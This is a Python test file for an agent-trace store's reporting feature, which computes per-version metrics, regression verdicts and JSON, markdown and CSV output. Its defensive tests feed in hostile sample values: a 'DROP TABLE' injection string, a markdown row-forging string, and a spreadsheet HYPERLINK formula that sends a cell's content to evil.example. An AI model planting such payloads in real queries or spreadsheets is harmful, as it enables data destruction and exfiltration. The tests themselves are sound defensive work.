"""The report: metrics per agent version from stored rows, a comparison with a verdict, three formats."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import orjson
import pytest
from helpers.store_agents import AGENT, record_support

from otel_agent_replay import ConfigurationError
from otel_agent_replay.store import METRICS, Store, format_report, open_store, report_rows

CUSTOMERS = ["c1", "c2", "c3"]


def two_versions(store: Store, tmp_path: Path) -> None:
    """Version 1.0 and 1.1 of the support agent on the same three customers, with evaluations."""
    store.ingest(record_support(tmp_path / "v1.jsonl", "1.0", CUSTOMERS), tags=["billing"])
    store.ingest(record_support(tmp_path / "v2.jsonl", "1.1", CUSTOMERS))
    for session in store.sessions(agent_version="1.0"):
        store.add_eval(session.session_id, "answered", passed=True, score=1.0, criteria_version="rules-1")
    for n, session in enumerate(store.sessions(agent_version="1.1")):
        store.add_eval(session.session_id, "answered", passed=n == 0, score=float(n == 0), criteria_version="rules-1")
        store.add_eval(session.session_id, "tone", passed=True, judge_model="judge-7", criteria_version="tone-2")


def test_metrics_per_version_are_computed_from_the_stored_rows(store_location: str, tmp_path: Path) -> None:
    with open_store(store_location) as store:
        two_versions(store, tmp_path)
        report = report_rows(store)
        latencies = {
            v: [s.latency_ms for s in store.sessions(agent_version=v) if s.latency_ms is not None]
            for v in ("1.0", "1.1")
        }
    v1, v2 = report.rows
    assert (v1.group, v2.group) == ("1.0", "1.1")
    assert (v1.sessions, v1.tool_calls, v1.tool_success_rate, v1.retry_rate) == (3, 3, 1.0, 0.0)
    assert (v1.out_of_bounds_calls, v1.pass_rate, v1.tokens_in, v1.tokens_out) == (0, 1.0, 240, 90)
    # 1.1: per session a refund call answered out of bounds, a timed-out look-up and its retry.
    assert (v2.sessions, v2.tool_calls, v2.tool_success_rate, v2.retry_rate) == (3, 9, pytest.approx(1 / 3), 1 / 3)
    assert (v2.out_of_bounds_calls, v2.out_of_bounds_tools) == (3, (("issue_refund", 3),))
    assert (v2.evals, v2.pass_rate) == (6, pytest.approx(4 / 6))
    assert (v2.tokens_in, v2.tokens_out) == (3 * 130, 3 * 55)
    for row, version in ((v1, "1.0"), (v2, "1.1")):
        assert row.latency_ms_avg == pytest.approx(sum(latencies[version]) / 3)
        assert row.latency_ms_max == pytest.approx(max(latencies[version]))


def test_a_comparison_regresses_only_past_its_thresholds(store_location: str, tmp_path: Path) -> None:
    with open_store(store_location) as store:
        two_versions(store, tmp_path)
        strict = report_rows(
            store, compare=("1.0", "1.1"), thresholds=["tool_success_rate=0.05", "pass_rate=10%", "tokens_in=200%"]
        )
        lenient = report_rows(store, compare=("1.0", "1.1"), thresholds={"tool_success_rate": 0.9})
        same = report_rows(store, compare=("1.0", "1.0"))
        one_criteria = report_rows(store, compare=("1.0", "1.1"), criteria_version="rules-1")
    assert strict.regressed and strict.comparison is not None and strict.comparison.verdict == "regressed"
    deltas = {d.metric: d for d in strict.comparison.deltas}
    assert list(deltas) == list(METRICS)
    assert deltas["tool_success_rate"].delta == pytest.approx(-2 / 3) and deltas["tool_success_rate"].regressed
    assert deltas["pass_rate"].regressed and deltas["pass_rate"].delta_pct == pytest.approx(-100 / 3)
    assert deltas["tokens_in"].change == "worse" and not deltas["tokens_in"].regressed  # +62.5% < 200%
    assert deltas["out_of_bounds_calls"].change == "worse" and not deltas["out_of_bounds_calls"].regressed
    assert deltas["retry_rate"].delta == pytest.approx(1 / 3)
    assert deltas["sessions"].change == "same"
    assert lenient.comparison is not None and not lenient.regressed
    # Worse on every metric but latency, which the machine decides: worse, or mixed.
    assert lenient.comparison.verdict in ("worse", "mixed")
    assert same.comparison is not None and same.comparison.verdict == "unchanged"
    assert one_criteria.rows[1].pass_rate == pytest.approx(1 / 3)  # the tone judge left out


def test_report_filters_and_groupings(store_location: str, tmp_path: Path) -> None:
    with open_store(store_location) as store:
        two_versions(store, tmp_path)
        tagged = report_rows(store, tag="billing")
        by_agent = report_rows(store, by="agent_name")
        other_agent = report_rows(store, agent_name="someone-else")
        with pytest.raises(ConfigurationError, match=r"no sessions of '9\.9' \(stored: '1\.0', '1\.1'\)"):
            report_rows(store, compare=("1.0", "9.9"))
        with pytest.raises(ConfigurationError, match="unknown metric 'speed'"):
            report_rows(store, compare=("1.0", "1.1"), thresholds=["speed=1"])
        with pytest.raises(ConfigurationError, match="is not a number"):
            report_rows(store, compare=("1.0", "1.1"), thresholds=["retry_rate=lots"])
        with pytest.raises(ConfigurationError, match="give compare="):
            report_rows(store, thresholds=["retry_rate=0"])
        with pytest.raises(ConfigurationError, match="group by one of"):
            report_rows(store, by="input; DROP TABLE agent_session")  # type: ignore[arg-type]
    assert [r.group for r in tagged.rows] == ["1.0"]
    assert [(r.group, r.sessions, r.tool_calls) for r in by_agent.rows] == [(AGENT, 6, 12)]
    assert other_agent.rows == ()


def test_formats_json_markdown_csv(store_location: str, tmp_path: Path) -> None:
    with open_store(store_location) as store:
        two_versions(store, tmp_path)
        report = report_rows(store, compare=("1.0", "1.1"), thresholds=["tool_success_rate=0.05"])
    data = orjson.loads(format_report(report, "json"))
    assert [r["agent_version"] for r in data["rows"]] == ["1.0", "1.1"]
    assert data["rows"][1]["out_of_bounds_tools"] == {"issue_refund": 3}
    assert data["comparison"]["regressed"] is True
    assert data["comparison"]["metrics"]["tool_success_rate"]["threshold"] == "tool_success_rate=0.05"
    md = format_report(report, "md")
    assert "| agent_version | sessions | tool_success_rate |" in md
    assert "| `1.1` | 3 | 33.3% |" in md
    assert "#### `1.1` against `1.0`: ❌ **regressed**" in md
    assert "| tool_success_rate | 100.0% | 33.3% | -66.7 pt (-66.7%) | 0.05 | ❌ **regressed** |" in md
    assert "`issue_refund` × 3" in md
    rows = list(csv.reader(io.StringIO(format_report(report, "csv"))))
    assert rows[0] == ["agent_version", *METRICS, "verdict"]
    assert [r[0] for r in rows[1:]] == ["1.0", "1.1", "delta 1.0..1.1"]
    assert rows[2][METRICS.index("tokens_in") + 1] == "390" and rows[3][-1] == "regressed"
    with pytest.raises(ConfigurationError, match="use json, md or csv"):
        format_report(report, "html")  # type: ignore[arg-type]


FORGED = "9.9` | forged | 100.0% |\n| `1.0"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _one_run(tape: Path, version: str) -> Path:
    from otel_agent_replay import agent_run, record, tool

    @tool(side_effect="read_only")
    def look(n: int) -> int:
        return n

    with record(tape), agent_run("hostile", agent_version=version):
        look(1)
    return tape


def test_a_stored_version_cannot_forge_a_markdown_row_or_a_csv_formula(tmp_path: Path) -> None:
    from markdown_it import MarkdownIt

    with open_store(tmp_path / "evidence.db") as store:
        store.ingest(_one_run(tmp_path / "forged.jsonl", FORGED))
        store.ingest(_one_run(tmp_path / "formula.jsonl", FORMULA))
        report = report_rows(store, compare=(FORGED, FORMULA))
    md = format_report(report, "md")
    tokens = MarkdownIt("commonmark").enable("table").parse(md)
    table: list[list[str]] = []
    for token in tokens[: next(i for i, t in enumerate(tokens) if t.type == "table_close")]:
        if token.type == "tr_open":
            table.append([])
        elif token.type == "inline" and table:
            table[-1].append(token.content)
    assert len(table) == 3  # the header and one row per stored version: no forged row
    assert all(len(row) == len(METRICS) + 1 for row in table)
    groups = [row[0] for row in table[1:]]
    assert all(g.startswith("`") and g.endswith("`") for g in groups) and any("forged" in g for g in groups)
    assert "\n| `1.0" not in md and "\\n" in md  # the newline is shown, not obeyed

    rows_csv = list(csv.reader(io.StringIO(format_report(report, "csv"))))
    text_cells = [row[0] for row in rows_csv[1:]]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in text_cells)
    assert "'" + FORMULA in text_cells
    assert orjson.loads(format_report(report, "json"))["comparison"]["candidate"] == FORMULA  # JSON stays exact
